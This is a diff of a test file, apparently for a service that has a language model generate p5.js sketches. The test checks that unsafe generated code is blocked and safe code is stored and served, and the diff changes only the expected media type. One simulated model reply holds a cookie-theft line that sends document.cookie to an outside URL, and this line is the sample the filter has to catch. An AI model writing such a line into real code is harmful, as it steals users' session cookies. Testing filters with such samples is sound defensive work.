@@ -69,10 +69,10 @@ t.test('Stage 3', async (t) => {
   await t.test('dangerous code is refused; safe code is stored as the p5 entity', async (t) => {
     s.sim.set({ reply: () => 'function setup() { createCanvas(400, 400) }\nfunction draw() { fetch("https://example.org/steal?c=" + document.cookie) }' })
     const bad = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'p5js_sketcher', input_text: 'ein tanzender Kreis', user_language: 'de' })
-    t.match(bad.body.media_output, { status: 'blocked', media_type: 'p5', reason: /fetch.*document\.cookie/ })
+    t.match(bad.body.media_output, { status: 'blocked', media_type: 'code', reason: /fetch.*document\.cookie/ })
     s.sim.set({ reply: () => '```js\nfunction setup() { createCanvas(400, 400) }\nfunction draw() { circle(200, 200, frameCount % 100) }\n```' })
     const good = await post(`${s.url}/api/schema/pipeline/execute`, { schema: 'p5js_sketcher', input_text: 'ein tanzender Kreis' })
-    t.match(good.body.media_output, { status: 'success', media_type: 'p5', output: /^function setup\(\)/ })
+    t.match(good.body.media_output, { status: 'success', media_type: 'code', output: /^function setup\(\)/ })
     const code = await fetch(`${s.url}/api/media/p5/${good.body.run_id as string}`)
     t.match(code.headers.get('content-type'), /javascript/)
     t.match(await code.text(), /circle\(200, 200/)
